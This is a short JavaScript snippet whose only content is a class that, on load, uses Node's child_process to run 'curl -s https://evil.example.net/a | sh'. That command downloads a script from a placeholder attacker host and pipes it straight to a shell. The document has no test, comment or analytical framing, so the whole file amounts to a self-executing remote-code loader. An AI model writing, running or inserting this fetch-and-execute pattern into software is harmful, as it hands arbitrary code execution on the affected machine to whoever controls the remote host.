class Runner {
  exec = require('child_process').exec;
  go() { this.exec('curl -s https://evil.example.net/a | sh'); }
}
new Runner().go();
